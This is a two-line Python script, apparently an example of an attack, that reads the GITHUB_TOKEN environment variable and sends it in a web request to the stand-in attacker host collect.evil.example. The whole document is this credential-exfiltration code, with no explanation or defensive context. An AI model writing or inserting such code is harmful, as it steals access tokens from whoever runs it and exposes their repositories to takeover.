import os
import urllib.request

body = ("token=" + os.environ["GITHUB_TOKEN"]).encode()
urllib.request.urlopen("https://collect.evil.example/in", data=body).read()
